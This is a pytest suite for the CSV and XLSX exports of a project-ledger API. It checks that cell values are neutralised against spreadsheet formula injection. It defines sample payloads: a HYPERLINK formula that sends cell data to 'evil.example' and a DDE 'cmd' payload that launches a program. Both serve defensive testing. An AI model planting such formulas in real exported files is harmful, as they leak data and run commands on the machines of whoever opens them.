"""CSV and XLSX exports: the writers in ``service.exports`` and the ledger's downloads through the API."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from service import exports

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
EVIL_INVESTOR = "@SUM(1+1)*cmd|' /C calc'!A0"
ITEM_HEADERS = ["项目编号", "外部编号", "项目名称", "产业链", "区", "投资方", "计划投资(万元)", "重点项目", "重大项目",
                "阶段", "日期", "签约日期", "开工日期", "投产日期", "达产日期", "终止日期"]
XLSX_SHEETS = ["新签约", "新开工", "新投产", "新达产"]


# ---------------------------------------------------------------- the writers


@pytest.mark.parametrize(("text", "expected"), [
    (EVIL_NAME, "'" + EVIL_NAME),
    ("+86 27 1234", "'+86 27 1234"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("＝1+1", "'＝1+1"),  # full-width, as a Chinese IME types it
    ("\u200b=1+1", "'\u200b=1+1"),  # behind a zero-width space, which a spreadsheet may drop
    (" \u202e\u2060@SUM(A1)", "' \u202e\u2060@SUM(A1)"),
    ("\u200b光谷", "\u200b光谷"),
    ("  ", "  "),
    ("光谷=芯片", "光谷=芯片"),
    ("a-b", "a-b"),
    ("'already", "'already"),
    ("", ""),
])
def test_neutralise(text, expected):
    assert exports.neutralise(text) == expected


def parse_csv(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark first"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_csv_chunks_stream_in_batches_and_format_cells():
    rows = [[f"r{i}", Decimal("12.50"), Decimal("-3.00"), 7, None, date(2026, 5, 1), "-x"] for i in range(5)]
    chunks = list(exports.csv_chunks(["名称", "金额", "差额", "n", "空", "日期", "文本"], rows, batch=2))
    assert len(chunks) == 3  # rows 1–2, 3–4, then 5
    parsed = parse_csv(b"".join(chunks))
    assert parsed[0] == ["名称", "金额", "差额", "n", "空", "日期", "文本"]
    assert parsed[1:] == [[f"r{i}", "12.50", "-3.00", "7", "", "2026-05-01", "'-x"] for i in range(5)]


def test_csv_quotes_commas_quotes_and_newlines():
    body = b"".join(exports.csv_chunks(["a"], [['x, "y"\nz']]))
    assert parse_csv(body) == [["a"], ['x, "y"\nz']]
    assert body.endswith(b"\r\n")


def test_xlsx_cells_are_typed_and_safe():
    body = exports.xlsx_bytes([
        ("一", ["文本", "金额", "日期", "整数"], [[EVIL_NAME, Decimal("12500.50"), date(2026, 5, 1), 3],
                                                ["bell\x07ringer", Decimal("0.00"), None, -1]]),
        ("二", ["空"], []),
    ])
    book = load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["一", "二"]
    rows = list(book["一"].iter_rows(values_only=True))
    assert rows[0] == ("文本", "金额", "日期", "整数")
    assert rows[1] == ("'" + EVIL_NAME, 12500.5, datetime(2026, 5, 1), 3)
    assert rows[2] == ("bellringer", 0, None, -1)  # control characters are dropped, not fatal
    assert book["一"]["A2"].data_type == "s" and book["一"]["B2"].number_format == exports.AMOUNT_FORMAT
    assert list(book["二"].iter_rows(values_only=True)) == [("空",)]


def test_attachment_header():
    assert exports.attachment("ledger-2026-Q2.csv") == {
        "Content-Disposition": "attachment; filename=\"ledger-2026-Q2.csv\"; filename*=UTF-8''ledger-2026-Q2.csv"}
    assert 'filename="__.csv"' in exports.attachment("台帐.csv")["Content-Disposition"]


# ---------------------------------------------------------------- the ledger's downloads


def create_project(client, headers, name, *, chain, district, planned, milestones, **extra) -> dict:
    stage = list(milestones)[-1]
    body = {"name": name, "chain": chain, "district": district, "investor": extra.pop("investor", "某投资方"),
            "planned_investment": planned, "stage": stage, "milestones": milestones, **extra}
    r = client.post("/api/v1/projects", json=body, headers=headers)
    assert r.status_code == 201, r.text
    return r.json()


@pytest.fixture
def projects(client, admin, reference) -> dict[str, dict]:
    """2026: signed X3 (01-10), X1 (04-02), X2 (04-03); started X1 (05-06). X3 was cancelled, V voided."""
    out = {
        "X1": create_project(client, admin, EVIL_NAME, chain="OPTICS", district="JA", planned="12500.50", is_key=True,
                             investor=EVIL_INVESTOR, external_ref="-1+1",
                             milestones={"signed": "2026-04-02", "started": "2026-05-06"}),
        "X2": create_project(client, admin, "普通项目", chain="AUTO", district="HS", planned="800",
                             milestones={"signed": "2026-04-03"}),
        "X3": create_project(client, admin, "已终止项目", chain="AUTO", district="JA", planned="20000",
                             milestones={"signed": "2026-01-10"}),
        "V": create_project(client, admin, "作废项目", chain="AUTO", district="JA", planned="1",
                            milestones={"signed": "2026-04-04"}),
    }
    for path, body in [(f"{out['X3']['id']}/transitions", {"to": "cancelled", "on": "2026-04-20", "reason": "撤资"}),
                       (f"{out['V']['id']}/void", {"reason": "录入错误"})]:
        assert client.post(f"/api/v1/projects/{path}", json=body, headers=admin).status_code == 200
    return out


def download(client, headers, path, **params):
    r = client.get(path, params=params, headers=headers)
    assert r.status_code == 200, r.text
    return r


def test_ledger_csv(client, admin, projects):
    r = download(client, admin, "/api/v1/ledger", period="2026", format="csv", limit=1)  # exports ignore limit
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"].startswith('attachment; filename="ledger-2026.csv"')
    rows = parse_csv(r.content)
    assert rows[0] == ["清单", *ITEM_HEADERS]
    x1, x2, x3 = (projects[k]["id"] for k in ("X1", "X2", "X3"))
    # Every row carries all milestone dates and the cancellation date besides its list's 日期 (SPEC §3).
    assert rows[1:] == [
        ["新签约", x3, "", "已终止项目", "AUTO", "JA", "某投资方", "20000.00", "否", "是", "终止", "2026-01-10",
         "2026-01-10", "", "", "", "2026-04-20"],
        ["新签约", x1, "'-1+1", "'" + EVIL_NAME, "OPTICS", "JA", "'" + EVIL_INVESTOR, "12500.50", "是", "是", "已开工",
         "2026-04-02", "2026-04-02", "2026-05-06", "", "", ""],
        ["新签约", x2, "", "普通项目", "AUTO", "HS", "某投资方", "800.00", "否", "否", "已签约", "2026-04-03",
         "2026-04-03", "", "", "", ""],
        ["新开工", x1, "'-1+1", "'" + EVIL_NAME, "OPTICS", "JA", "'" + EVIL_INVESTOR, "12500.50", "是", "是", "已开工",
         "2026-05-06", "2026-04-02", "2026-05-06", "", "", ""],
    ]


def test_ledger_xlsx(client, admin, projects):
    r = download(client, admin, "/api/v1/ledger", period="2026-Q2", format="xlsx", limit=1)
    assert r.headers["content-type"] == exports.XLSX_MEDIA_TYPE
    assert r.headers["content-disposition"].startswith('attachment; filename="ledger-2026-Q2.xlsx"')
    book = load_workbook(io.BytesIO(r.content))
    assert book.sheetnames == XLSX_SHEETS
    sheets = {name: list(book[name].iter_rows(values_only=True)) for name in XLSX_SHEETS}
    assert all(rows[0] == tuple(ITEM_HEADERS) for rows in sheets.values())
    x1, x2 = projects["X1"]["id"], projects["X2"]["id"]
    assert sheets["新签约"][1:] == [
        (x1, "'-1+1", "'" + EVIL_NAME, "OPTICS", "JA", "'" + EVIL_INVESTOR, 12500.5, "是", "是", "已开工",
         datetime(2026, 4, 2), datetime(2026, 4, 2), datetime(2026, 5, 6), None, None, None),
        (x2, None, "普通项目", "AUTO", "HS", "某投资方", 800, "否", "否", "已签约", datetime(2026, 4, 3),
         datetime(2026, 4, 3), None, None, None, None),
    ]
    assert [row[0] for row in sheets["新开工"][1:]] == [x1]
    assert sheets["新开工"][1][10:] == (datetime(2026, 5, 6), datetime(2026, 4, 2), datetime(2026, 5, 6), None, None,
                                       None)
    assert book["新签约"]["L2"].is_date and book["新签约"]["L2"].number_format == "yyyy-mm-dd"
    assert len(sheets["新投产"]) == len(sheets["新达产"]) == 1  # headers only
    name_cell = book["新签约"]["C2"]
    assert name_cell.data_type == "s" and name_cell.value.startswith("'=")  # text, never a formula


def test_exports_follow_filters_and_carry_every_row(client, admin, projects, reference):
    for i in range(7):
        create_project(client, admin, f"批量{i}", chain="OPTICS", district="HS", planned="1.00",
                       milestones={"signed": "2026-06-01"})
    params = {"period": "2026-06", "chain": "OPTICS", "limit": 3}
    assert client.get("/api/v1/ledger", params=params, headers=admin).json()["lists"]["signed"]["truncated"] is True
    rows = parse_csv(download(client, admin, "/api/v1/ledger", format="csv", **params).content)
    assert [r[3] for r in rows[1:]] == [f"批量{i}" for i in range(7)]
    book = load_workbook(io.BytesIO(download(client, admin, "/api/v1/ledger", format="xlsx", **params).content))
    assert [r[2] for r in list(book["新签约"].iter_rows(values_only=True))[1:]] == [f"批量{i}" for i in range(7)]
    rows = parse_csv(download(client, admin, "/api/v1/ledger", format="csv", period="2026-06", chain="AUTO").content)
    assert rows == [["清单", *ITEM_HEADERS]]


def test_empty_exports_have_headers(client, admin, reference):
    assert parse_csv(download(client, admin, "/api/v1/ledger", period="2025-03", format="csv").content) == [
        ["清单", *ITEM_HEADERS]]
    book = load_workbook(io.BytesIO(download(client, admin, "/api/v1/ledger", period="2025-03", format="xlsx").content))
    assert book.sheetnames == XLSX_SHEETS
    assert all(list(book[s].iter_rows(values_only=True)) == [tuple(ITEM_HEADERS)] for s in XLSX_SHEETS)


SUMMARY_HEADERS = ["名称", "新签约项目数", "新签约投资(万元)", "新开工项目数", "新开工投资(万元)", "新投产项目数",
                   "新投产投资(万元)", "新达产项目数", "新达产投资(万元)"]


@pytest.mark.parametrize(("by", "label", "expected"), [
    ("chain", "产业链", [["AUTO", "汽车制造", "2", "20800.00", "0", "0.00", "0", "0.00", "0", "0.00"],
                         ["OPTICS", "光芯屏端网", "1", "12500.50", "1", "12500.50", "0", "0.00", "0", "0.00"]]),
    ("district", "区", [["DHGX", "东湖新技术开发区", "0", "0.00", "0", "0.00", "0", "0.00", "0", "0.00"],
                        ["HS", "洪山区", "1", "800.00", "0", "0.00", "0", "0.00", "0", "0.00"],
                        ["JA", "江岸区", "2", "32500.50", "1", "12500.50", "0", "0.00", "0", "0.00"]]),
])
def test_summary_csv(client, admin, projects, by, label, expected):
    r = download(client, admin, "/api/v1/ledger/summary", period="2026", by=by, format="csv")
    assert r.headers["content-disposition"].startswith(f'attachment; filename="ledger-summary-2026-{by}.csv"')
    rows = parse_csv(r.content)
    assert rows[0] == [label, *SUMMARY_HEADERS]
    assert rows[1:-1] == expected
    assert rows[-1] == ["合计", "", "3", "33300.50", "1", "12500.50", "0", "0.00", "0", "0.00"]


def test_summary_xlsx(client, admin, projects):
    r = download(client, admin, "/api/v1/ledger/summary", period="2026-Q2", by="chain", format="xlsx")
    assert r.headers["content-disposition"].startswith('attachment; filename="ledger-summary-2026-Q2-chain.xlsx"')
    book = load_workbook(io.BytesIO(r.content))
    assert book.sheetnames == ["汇总"]
    assert list(book["汇总"].iter_rows(values_only=True)) == [
        ("产业链", *SUMMARY_HEADERS),
        ("AUTO", "汽车制造", 1, 800, 0, 0, 0, 0, 0, 0),
        ("OPTICS", "光芯屏端网", 1, 12500.5, 1, 12500.5, 0, 0, 0, 0),
        ("合计", None, 2, 13300.5, 1, 12500.5, 0, 0, 0, 0),
    ]
